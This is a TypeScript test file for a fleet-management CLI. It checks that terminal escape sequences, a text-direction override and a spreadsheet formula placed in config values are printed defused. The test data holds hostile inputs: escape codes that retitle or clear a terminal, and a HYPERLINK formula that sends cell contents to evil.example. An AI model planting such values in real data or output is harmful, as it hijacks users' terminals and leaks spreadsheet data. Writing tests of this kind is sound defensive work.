// User strings reach the terminal and spreadsheets defused (issue #11): escape sequences in a
// node's zone and GPU model, and in labels, are printed as visible \uXXXX by plan, apply, status,
// explain and nodes (never as the control characters that retitle or recolour a terminal), and a
// label that looks like a formula lands in `savings --csv` as text.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { TRAINER, cli } from './helpers.js';

const dirs: string[] = [];
afterAll(() => {
  for (const d of dirs) cli(['destroy', '--auto-approve', d], { cwd: d });
});

// YAML double quotes: \e is ESC, \a is BEL, \x9b is the one-byte CSI, \u202e flips text direction.
const ZONE = String.raw`"lab\e]0;pwned\a"`;
const MODEL = String.raw`"V100\e[31m"`;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

function fleet(): string {
  return `apiVersion: spotfleet.dev/v1
kind: Fleet
metadata: { name: safe }
providers:
  lab:
    type: local
    config:
      nodes:
        - { name: od-1, gpuModel: ${MODEL}, gpus: 2, capacity: on-demand, zone: ${ZONE}, pricePerHour: 2 }
pools:
  - { name: od, provider: lab, capacity: on-demand, gpuModel: ${MODEL} }
workloads:
  - name: train
    command: ${JSON.stringify(['node', TRAINER])}
    gpuModel: ${MODEL}
    capacity: on-demand
    env: { STEP_MS: "50" }
    labels: { team: ${JSON.stringify(FORMULA)}, note: "a\\x9b2Jb\\u202ec" }
`;
}

/** No raw control character but newline (and no C1 or bidi override) in what was printed. */
function expectDefused(text: string): void {
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
}

describe('terminal and CSV output', () => {
  it('plan, apply, status, explain and nodes show control characters, never send them', () => {
    const dir = mkdtempSync(join(tmpdir(), 'sf-safe-'));
    dirs.push(dir);
    writeFileSync(join(dir, 'fleet.yaml'), fleet());
    const runs = {
      plan: cli(['plan', dir], { cwd: dir }),
      apply: cli(['apply', '--auto-approve', dir], { cwd: dir }),
      status: cli(['status', dir], { cwd: dir }),
      explain: cli(['explain', 'workload.train', dir], { cwd: dir }),
      nodes: cli(['nodes', dir], { cwd: dir }),
    };
    for (const [name, r] of Object.entries(runs)) {
      expect(r.code, `${name}: ${r.stderr}`).toBe(0);
      expectDefused(r.stdout);
      expectDefused(r.stderr);
    }
    // What was there is still shown, readably.
    expect(runs.nodes.stdout).toContain(String.raw`lab\u001b]0;pwned\u0007`);
    expect(`${runs.plan.stdout}${runs.apply.stdout}${runs.explain.stdout}`).toContain(String.raw`\u001b[31m`);
    // JSON output stays valid JSON with the same strings.
    const json = cli(['plan', '--json', dir], { cwd: dir });
    expectDefused(json.stdout);
    expect(() => JSON.parse(json.stdout) as unknown).not.toThrow();
  });

  it('a formula in a label lands in savings --csv as text', () => {
    const dir = dirs[0] as string;
    const r = cli(['savings', '--by', 'label:team', '--csv', dir], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    const row = r.stdout.split('\n')[1] ?? '';
    expect(row.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)).toBe(true);
    expectDefused(r.stdout);
  });
});
